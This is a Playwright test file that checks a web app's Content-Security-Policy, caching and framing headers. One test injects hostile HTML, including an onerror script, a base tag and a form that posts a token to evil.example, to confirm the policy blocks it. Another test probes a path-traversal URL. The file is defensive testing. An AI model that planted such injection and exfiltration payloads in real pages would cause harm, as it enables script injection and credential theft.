import type { APIResponse } from '@playwright/test';

import { MEMBER } from '../support/demo.ts';
import { expect, openPage, signIn, test } from '../support/fixtures.ts';

/** Directives of a Content-Security-Policy by name. */
function policyOf(answer: APIResponse): Map<string, string[]> {
  const directives = (answer.headers()['content-security-policy'] ?? '').split(';');
  return new Map(
    directives.map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/);
      return [name, sources];
    }),
  );
}

for (const path of [
  '/sign-in',
  '/events',
  '/developer-zone',
  '/developer-zone/activity',
  '/account',
  '/no-such-page',
]) {
  test(`${path} lets the browser run and load our own files only, and keep nothing`, async ({
    request,
  }) => {
    if (path !== '/sign-in') {
      await signIn(request, MEMBER);
    }
    const answer = await request.get(path, { maxRedirects: 0 });
    expect(answer.status()).toBe(path === '/no-such-page' ? 404 : 200);
    const headers = answer.headers();
    expect(headers['content-type']).toBe('text/html; charset=utf-8');
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toMatch(/^(same-origin|no-referrer)$/);
    expect(headers['cache-control']).toBe('no-store');

    const policy = policyOf(answer);
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'none'"]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    expect(policy.get('form-action')).toEqual(["'self'"]);
    const scripts = policy.get('script-src') ?? [];
    const nonce = scripts.find((source) => source.startsWith("'nonce-"))?.slice(7, -1);
    expect(nonce).toMatch(/^[\w+/=-]{22,}$/);
    for (const sources of policy.values()) {
      for (const loose of ["'unsafe-inline'", "'unsafe-eval'", '*', 'https:', 'http:', 'data:']) {
        expect(sources).not.toContain(loose);
      }
    }
    const html = await answer.text();
    const inline = html.match(/<script\b[^>]*>/g) ?? [];
    expect(inline.length).toBeGreaterThan(0);
    for (const tag of inline) {
      expect(tag).toContain(`nonce="${nonce}"`);
    }
    expect(html, 'no inline style and no inline handler').not.toMatch(/<[^>]+\s(style|on\w+)=/);
  });
}

test('the nonce is another one for every answer', async ({ request }) => {
  const nonce = async () => policyOf(await request.get('/sign-in')).get('script-src')?.join(' ');
  expect(await nonce()).not.toBe(await nonce());
});

/** What the browser says of what it was kept from. */
const REFUSALS = /CSP violation|Content Security Policy|Refused to|404 \(Not Found\)/;

test('what somebody gets into a page is not run, styles nothing and sends nothing', async ({
  page,
  collector,
  signIn,
}) => {
  collector.allow(REFUSALS);
  await signIn(MEMBER);
  await openPage(page, '/developer-zone');
  await page.evaluate(() => {
    const main = document.querySelector('main')!;
    main.insertAdjacentHTML(
      'beforeend',
      `<style>main { display: none }</style>
       <p id="styled" style="position: fixed">text</p>
       <img src="x" onerror="document.title = 'run'">
       <iframe srcdoc="<script>top.document.title = 'run'</script>"></iframe>
       <base href="https://evil.example/">
       <form id="stolen" method="post" action="https://evil.example/"><input name="token" value="x"></form>`,
    );
    const script = document.createElement('script');
    script.textContent = "document.title = 'run'";
    main.append(script);
  });
  const isSeen = (directive: string) =>
    expect
      .poll(() => collector.seen, directive)
      .toContainEqual(expect.stringContaining(`CSP violation: ${directive} by`));
  for (const directive of ['style-src-elem', 'style-src-attr', 'script-src-elem', 'script-src-attr', 'base-uri']) {
    await isSeen(directive);
  }
  await expect(page.getByRole('main')).toBeVisible();
  await expect(page.locator('#styled')).toHaveCSS('position', 'static');
  await expect(page).not.toHaveTitle('run');
  expect(await page.evaluate(() => document.baseURI)).not.toContain('evil.example');
  // Last, because Playwright waits for the navigation that a form begins, and this one never does.
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#stolen')!.submit());
  await isSeen('form-action');
  expect(new URL(page.url()).pathname).toBe('/developer-zone');
});

test('no page stands in another page’s frame', async ({ page, collector, server, signIn }) => {
  collector.allow(REFUSALS);
  await signIn(MEMBER);
  for (const path of ['/sign-in', '/events', '/developer-zone', '/docs', '/no-such-page', '/healthz']) {
    await page.goto('about:blank');
    await page.setContent(`<iframe src="${server.url}${path}"></iframe>`);
    const frame = page.frames()[1];
    await expect.poll(() => frame?.url(), path).toBe('chrome-error://chromewebdata/');
  }
});

test('what a server function answers is kept by no cache', async ({ request }) => {
  await signIn(request, MEMBER);
  const answer = await request.post('/api/dashboard/create-token', { data: { organisation_id: 903 } });
  expect(answer.status()).toBe(200);
  expect(answer.headers()['cache-control']).toBe('no-store');
  expect(answer.headers()['x-content-type-options']).toBe('nosniff');
  expect(answer.headers()['content-type']).toMatch(/^application\/json/);
});

test('assets are compressed, of the right type, and can be kept for good', async ({ request }) => {
  const html = await (await request.get('/sign-in')).text();
  const paths = new Set(html.match(/\/assets\/[\w.-]+/g));
  const types = new Map([
    ['js', 'text/javascript; charset=utf-8'],
    ['wasm', 'application/wasm'],
    ['css', 'text/css; charset=utf-8'],
    ['svg', 'image/svg+xml'],
  ]);
  const endings = [...paths].map((path) => path.slice(path.lastIndexOf('.') + 1));
  expect(endings.toSorted()).toEqual([...types.keys()].toSorted());
  for (const path of paths) {
    expect(path, 'the name changes with the content').toMatch(/\.[0-9a-f]{8,}\.\w+$/);
    for (const encoding of ['br', 'gzip']) {
      const answer = await request.get(path, { headers: { 'Accept-Encoding': encoding } });
      const headers = answer.headers();
      expect(headers['content-encoding'], path).toBe(encoding);
      expect(headers['vary']?.toLowerCase(), path).toContain('accept-encoding');
      expect(headers['content-type'], path).toBe(types.get(path.slice(path.lastIndexOf('.') + 1)));
      expect(headers['cache-control'], path).toBe('public, max-age=31536000, immutable');
      expect(headers['x-content-type-options'], path).toBe('nosniff');
    }
    const plain = await request.get(path, { headers: { 'Accept-Encoding': 'identity' } });
    expect(plain.headers()['content-encoding'], path).toBeUndefined();
  }
});

test('an asset that does not exist is a 404 that nobody keeps', async ({ request }) => {
  for (const path of ['/assets/none.0000000000000000.js', '/assets/..%2Fmanifest.json', '/assets/x']) {
    const answer = await request.get(path);
    expect(answer.status(), path).toBe(404);
    expect(answer.headers()['cache-control'] ?? '', path).not.toContain('immutable');
  }
});
